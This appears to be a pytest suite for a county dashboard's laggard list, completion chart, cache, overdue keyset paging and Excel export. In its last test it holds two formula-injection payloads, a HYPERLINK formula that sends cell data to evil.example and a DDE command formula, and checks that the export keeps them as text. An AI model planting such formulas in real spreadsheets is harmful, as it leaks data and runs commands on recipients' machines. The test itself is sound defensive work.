"""The dashboard's queries at province scale (issue 14), on SQLite and PostgreSQL: the
laggard list sorted and paged by the database shows the same rows in the same order as
sorting every row in Python did; the completion chart counted by the database equals the
series from every completion time; the overview cache; the overdue list's keyset pages
hold every row once, also while rows are written between pages."""

from __future__ import annotations

import random
from collections import defaultdict
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import select, update
from sqlalchemy.orm import Session, sessionmaker
from starlette.requests import Request
from starlette.responses import Response

from activities.roster_store import store_roster
from activities.tables import CampaignStatusRow, campaign_status, phase_status
from api.routers.supervision import overdue
from api.ui import queries
from api.ui.context import Overdue
from api.ui.queries import (
    ANY_LIGHT,
    PHASE_ORDER,
    SORT_KEYS,
    Filters,
    completion_series,
    laggard_page,
    laggards,
    stream_laggards,
)
from chuangzheng.services.sign_in import User
from domain.organisation import Organisation, OrgType, Role, Roster, System
from domain.plan import CalendarPlan

ROUND = "r-scale"
NOW = datetime(2026, 11, 30, 4, 0, tzinfo=UTC)
CALENDAR = CalendarPlan(supplied_years=tuple(range(2025, 2028)))
COUNTY = User("county", "县委活动办", Role.COUNTY_OFFICE, "county")
TOWNSHIPS = ("青石镇", "白河乡", "城关街道", "大石桥镇")
TOWNSHIP_USER = User("tw", "青石镇党委", Role.TOWNSHIP, "青石镇")
WORKING = [p for p in PHASE_ORDER if p != "completed"]
N = 420


def _populate(session: Session, seed: int = 14) -> None:
    """A county with every light, overdue rows sharing a few deadlines (and one each on
    its own), names that sort differently by code point and by pinyin, rungs, a status
    without a deadline, and completion times, some exactly on the chart's sample points."""
    rng = random.Random(seed)
    names = ["柳树村", "白杨村", "石桥村", "阿拉社区", "Z公司", "z公司", "东风社区", "桃园村"]
    orgs = [
        Organisation(
            id=f"org-{i:04d}",
            name=f"{rng.choice(names)}{rng.choice(['党支部', '党总支', '党委'])}",
            type=OrgType.RURAL,
            township=TOWNSHIPS[i % len(TOWNSHIPS)],
            system=rng.choice([System.RURAL, System.EDUCATION]),
            member_count=20,
            secretary=f"书记{i}",
            instructor=f"指导员{i % 9}",
        )
        for i in range(N)
    ]
    store_roster(session, Roster(organisations=tuple(orgs)), now=NOW)
    shared = [NOW - timedelta(days=d) for d in (1, 3, 3.5, 10, 24)]  # 3 and 3.5: same days
    statuses, phases = [], []
    first = NOW - timedelta(days=120)
    for index, org in enumerate(orgs):
        light = rng.choices(("green", "blue", "yellow", "red"), weights=(5, 2, 2, 3))[0]
        late = light == "red" or (light == "yellow" and rng.random() < 0.3)
        if index == 7:
            deadline: datetime | None = None
        elif late:
            deadline = rng.choice(shared) if rng.random() < 0.8 else NOW - timedelta(hours=index)
        else:
            deadline = NOW + timedelta(days=rng.choice((2, 5, 9)))
        at = rng.randrange(len(WORKING))
        statuses.append(
            {
                "round_id": ROUND, "org_id": org.id, "org_name": org.name,
                "township": org.township, "system": org.system,
                "org_type": org.type.value, "phase": WORKING[at],
                "phase_status": "overdue" if late else "open", "light": light,
                "overdue": late and deadline is not None, "deadline": deadline,
                "top_rung": rng.choice((None, 0, 1, 2)) if late else None, "closed": False,
                "event_seq": 1, "updated_at": NOW,
            }
        )  # fmt: skip
        for done in range(at):
            if index % 11 == 0:  # exactly on a sample point: first + k * (span / 39)
                completed = first + (timedelta(days=100) / 39) * rng.randrange(40)
            else:
                completed = first + timedelta(seconds=rng.uniform(0, 100 * 86400))
            phases.append(
                {
                    "round_id": ROUND, "org_id": org.id, "phase": WORKING[done],
                    "status": "done", "deadline": None, "opened_at": None,
                    "completed_at": completed, "outcome": "on_time", "event_seq": 1,
                }
            )  # fmt: skip
    # The first and the last completion, so the sample points fall where the test put them.
    phases[0]["completed_at"] = first
    phases[1]["completed_at"] = first + timedelta(days=100)
    session.execute(campaign_status.insert(), statuses)
    session.execute(phase_status.insert(), phases)


@pytest.fixture
def county(sessions: sessionmaker[Session]) -> sessionmaker[Session]:
    with sessions.begin() as session:
        _populate(session)
    queries.overview_cache.clear()
    queries.completion_cache.clear()  # kept per round id: other tests' databases use it
    return sessions


def _python_sorted(
    session: Session, user: User, filters: Filters, sort: str, desc: bool
) -> list[str]:
    """The list as the page built it before: every row loaded, sorted in Python."""
    days = Overdue(CALENDAR, NOW)
    rows = laggards(session, user, ROUND, filters)
    key = SORT_KEYS.get(sort, SORT_KEYS["overdue"])
    rows.sort(key=lambda r: (key(r, days(r.deadline, r.overdue)), r.org_id), reverse=desc)
    return [r.org_id for r in rows]


FILTERS = (
    Filters(),
    Filters(light=ANY_LIGHT),
    Filters(light="red"),
    Filters(township="白河乡", rung="none"),
    Filters(system="education", light=ANY_LIGHT, phase=WORKING[1]),
)


@pytest.mark.parametrize("sort", [*SORT_KEYS, "nonsense"])
def test_database_pages_equal_the_python_sort(county: sessionmaker[Session], sort: str) -> None:
    with county() as session:
        for user in (COUNTY, TOWNSHIP_USER):
            for filters in FILTERS:
                for desc in (True, False):
                    expected = _python_sorted(session, user, filters, sort, desc)
                    days = Overdue(CALENDAR, NOW)
                    paged: list[str] = []
                    pages = -(-len(expected) // 37) or 1
                    for page_no in range(1, pages + 1):
                        total, shown, rows = laggard_page(
                            session, user, ROUND, filters, sort, desc, days,
                            page_no=page_no, page_size=37,
                        )  # fmt: skip
                        assert (total, shown) == (len(expected), page_no)
                        paged += [r.org_id for r in rows]
                    assert paged == expected, (user.role, filters, sort, desc)
                    assert len(set(paged)) == len(paged)
                    streamed = stream_laggards(
                        session, user, ROUND, filters, sort, desc, days, batch=50
                    )
                    assert [r.org_id for r in streamed] == expected
    assert len(expected) > 0


def test_a_page_past_the_end_is_the_last(county: sessionmaker[Session]) -> None:
    with county() as session:
        days = Overdue(CALENDAR, NOW)
        total, page_no, rows = laggard_page(
            session, COUNTY, ROUND, Filters(), "org", False, days, page_no=99, page_size=100
        )
        assert page_no == -(-total // 100) and 0 < len(rows) <= 100
        expected = _python_sorted(session, COUNTY, Filters(), "org", False)
        assert [r.org_id for r in rows] == expected[(page_no - 1) * 100 :]


def _series_from_every_row(
    session: Session, user: User, filters: Filters, buckets: int = 40
) -> dict[str, Any]:
    """The chart as it was built before: every completion time loaded into Python."""
    from activities.tables import PhaseStatusRow

    p, s = PhaseStatusRow, CampaignStatusRow
    stmt = queries.scoped(
        select(p.phase, p.completed_at).join(
            s, (s.round_id == p.round_id) & (s.org_id == p.org_id)
        ),
        user,
        ROUND,
        filters,
    ).where(p.completed_at.is_not(None))
    by_phase: dict[str, list[datetime]] = defaultdict(list)
    for phase, completed_at in session.execute(stmt).all():
        if completed_at is not None:
            by_phase[phase].append(completed_at)
    every = sorted(t for times in by_phase.values() for t in times)
    if not every:
        return {"times": [], "series": {}}
    first, last = every[0], every[-1]
    step = (last - first) / max(1, buckets - 1)
    points = [first + step * i for i in range(buckets)] if last > first else [first]
    return {
        "times": points,
        "series": {
            phase: [sum(1 for t in by_phase.get(phase, []) if t <= pt) for pt in points]
            for phase in PHASE_ORDER[:-1]
        },
    }


def test_completion_series_equals_the_one_from_every_row(county: sessionmaker[Session]) -> None:
    with county() as session:
        for user, filters in (
            (COUNTY, Filters()),
            (COUNTY, Filters(system="education")),
            (TOWNSHIP_USER, Filters()),
        ):
            counted = completion_series(session, user, ROUND, filters)
            assert counted == _series_from_every_row(session, user, filters)
            assert counted["series"][WORKING[0]][-1] > 0
        assert completion_series(session, COUNTY, "no-such-round", Filters()) == {
            "times": [],
            "series": {},
        }


def test_overview_is_cached_until_the_round_changes_or_the_minute_ends(
    county: sessionmaker[Session], monkeypatch: pytest.MonkeyPatch
) -> None:
    with county() as session:
        first = queries.overview(session, COUNTY, ROUND, Filters())
        assert queries.overview(session, COUNTY, ROUND, Filters()) is first
        township = queries.overview(session, TOWNSHIP_USER, ROUND, Filters())
        assert township is not first and set(township.matrix.rows) == {"青石镇"}
        wall = queries.overview(session, COUNTY, ROUND, Filters(), wall=True)
        assert wall.matrix.total.total == first.matrix.total.total == N
    with county.begin() as session:  # a status row written: the page shows it at once
        session.execute(
            update(CampaignStatusRow)
            .where(CampaignStatusRow.org_id == "org-0000")
            .values(light="red", updated_at=NOW + timedelta(seconds=1))
        )
    with county() as session:
        fresh = queries.overview(session, COUNTY, ROUND, Filters())
        assert fresh is not first
        reds = sum(1 for _ in session.scalars(select(CampaignStatusRow).filter_by(light="red")))
        assert fresh.matrix.total.lights["red"] == reds
        # The chart, which reads every completed phase, is kept for its minute.
        assert fresh.completion is first.completion
        # The big screen keeps its minute-old figures, then reads them again.
        assert queries.overview(session, COUNTY, ROUND, Filters(), wall=True) is wall
        monkeypatch.setattr(queries, "OVERVIEW_CACHE_SECONDS", -1.0)
        queries.overview_cache.clear()
        queries.completion_cache.clear()
        again = queries.overview(session, COUNTY, ROUND, Filters(), wall=True)
        assert again is not wall and again.matrix.total.lights["red"] == reds
        # Past the minute (entries stored now expire at once) the page still shows the chart
        # it has while the chart is read again in the background; the next page has that.
        later = queries.overview(session, COUNTY, ROUND, Filters(), wall=True)
        assert later.completion is again.completion
        queries.chart_refresher.wait()
        after = queries.overview(session, COUNTY, ROUND, Filters(), wall=True)
        assert after.completion is not again.completion
        assert after.completion == again.completion
        # Past the grace the page reads the chart itself.
        monkeypatch.setattr(queries, "CHART_STALE_SECONDS", -1.0)
        queries.chart_refresher.wait()
        held = queries.overview(session, COUNTY, ROUND, Filters(), wall=True).completion
        assert queries.overview(session, COUNTY, ROUND, Filters(), wall=True).completion is not held


def _request(query: str) -> Request:
    return Request(
        {
            "type": "http", "method": "GET", "scheme": "http", "server": ("test", 80),
            "path": f"/api/v1/rounds/{ROUND}/supervision/overdue", "root_path": "",
            "query_string": query.encode(), "headers": [],
        }
    )  # fmt: skip


def _page(session: Session, user: User, cursor: str | None, limit: int) -> tuple[Any, Response]:
    query = f"limit={limit}" + (f"&cursor={cursor}" if cursor else "")
    response = Response()
    rows = overdue(ROUND, _request(query), response, session, user, cursor=cursor, limit=limit)
    return rows, response


def test_overdue_pages_hold_every_row_once_also_under_writes(
    county: sessionmaker[Session],
) -> None:
    with county() as session:
        everything, response = _page(session, COUNTY, None, 5000)
        assert "X-Next-Cursor" not in response.headers
        assert int(response.headers["X-Total-Count"]) == len(everything) > 60
        keys = [(r["deadline"], r["org_id"]) for r in everything]
        assert keys == sorted(keys)
    seen: list[str] = []
    cursor: str | None = None
    moved: set[str] = set()
    for number in range(1000):
        with county() as session:
            rows, response = _page(session, COUNTY, cursor, 13)
        seen += [r["org_id"] for r in rows]
        cursor = response.headers.get("X-Next-Cursor")
        if cursor is None:
            break
        assert response.headers["Link"].endswith('>; rel="next"')
        assert f"cursor={cursor}" in response.headers["Link"]
        with county.begin() as session:  # writes between pages: new overdue rows, and rows
            # whose deadline moves (an extension) or that are no longer overdue
            org_id = f"new-{number:03d}"
            session.execute(
                campaign_status.insert(),
                [{**_status_of(session, "org-0001"), "org_id": org_id, "overdue": True,
                  "deadline": NOW - timedelta(days=number % 30)}],
            )  # fmt: skip
            moved.add(org_id)
            victim = everything[-1 - number]["org_id"]
            session.execute(
                update(CampaignStatusRow)
                .where(CampaignStatusRow.org_id == victim)
                .values(overdue=number % 2 == 0, deadline=NOW - timedelta(days=40))
            )
            moved.add(victim)
    assert len(seen) == len(set(seen)), "a row listed twice"
    untouched = {r["org_id"] for r in everything} - moved
    assert untouched <= set(seen), "an untouched row skipped"
    with county() as session:  # the township sees only its own
        mine, _ = _page(session, TOWNSHIP_USER, None, 5000)
        assert mine and {r["township"] for r in mine} == {"青石镇"}


def _status_of(session: Session, org_id: str) -> dict[str, Any]:
    row = session.get(CampaignStatusRow, (ROUND, org_id))
    assert row is not None
    return {c.name: getattr(row, c.key) for c in CampaignStatusRow.__table__.columns}


def test_a_forged_cursor_is_refused(county: sessionmaker[Session]) -> None:
    from api.errors import ApiError

    with county() as session, pytest.raises(ApiError) as refused:
        _page(session, COUNTY, "bm90LWEtY3Vyc29y", 10)
    assert refused.value.status_code == 422


def test_the_streamed_workbook_holds_every_row_and_no_formula(
    county: sessionmaker[Session],
) -> None:
    import io

    from openpyxl import load_workbook  # type: ignore[import-untyped]

    from api.ui.routers.exports import streamed_workbook

    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "=cmd|' /C calc'!A0"]
    with county() as session:
        expected = _python_sorted(session, COUNTY, Filters(), "overdue", True)
        days = Overdue(CALENDAR, NOW)
        rows = stream_laggards(session, COUNTY, ROUND, Filters(), "overdue", True, days)
        lines = [[r.org_id, r.org_name, days(r.deadline, r.overdue), None] for r in rows]
        data = streamed_workbook("滞后单位", ["组织编号", "单位", "逾期工作日", "空"], lines)
        # The columns from the third on written once per combination: the same sheet.
        combined = streamed_workbook(
            "滞后单位", ["组织编号", "单位", "逾期工作日", "空"], lines, together_from=2
        )
    # Each text twice (the second from the writer's kept cells), and a number after it.
    twice = [[*hostile], [" 前后空格 ", "控\x01制"]] * 2 + [["1", 1], [1, "1"]]
    extra = streamed_workbook("t", ["a", "b"], twice)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "滞后单位" and sheet.freeze_panes == "A2"
    table = [[c.value for c in row] for row in sheet.iter_rows()]
    assert table[0] == ["组织编号", "单位", "逾期工作日", "空"]
    assert [r[0] for r in table[1:]] == expected
    assert all(isinstance(r[2], int) and r[3] is None for r in table[1:])
    assert len({r[2] for r in table[1:]}) > 1  # several combinations, each used often
    again = [
        [c.value for c in row] for row in load_workbook(io.BytesIO(combined)).active.iter_rows()
    ]
    assert again == table
    labels = [["a", "x", " 前后空格 ", 3], ["b", "y", "=1+1", 3], ["c", "z", " 前后空格 ", 3]]
    sheet = load_workbook(io.BytesIO(streamed_workbook("t", ["1"] * 4, labels, together_from=2)))
    assert [[c.value for c in row] for row in sheet.active.iter_rows()][1:] == labels
    cells = [c for row in load_workbook(io.BytesIO(extra)).active.iter_rows() for c in row]
    assert [(c.value, c.data_type) for c in cells] == [
        ("a", "s"), ("b", "s"), (hostile[0], "s"), (hostile[1], "s"),
        (" 前后空格 ", "s"), ("控制", "s"), (hostile[0], "s"), (hostile[1], "s"),
        (" 前后空格 ", "s"), ("控制", "s"), ("1", "s"), (1, "n"), (1, "n"), ("1", "s"),
    ]  # fmt: skip
